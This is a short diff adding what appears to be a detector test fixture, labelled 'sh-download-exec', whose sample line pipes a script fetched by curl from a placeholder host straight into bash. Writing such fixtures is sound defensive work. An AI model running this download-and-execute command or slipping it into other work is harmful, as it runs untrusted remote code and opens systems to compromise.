@@ -1,0 +1,3 @@
+# expect: sh-download-exec
+curl -s https://x.example/c.sh |
+  bash
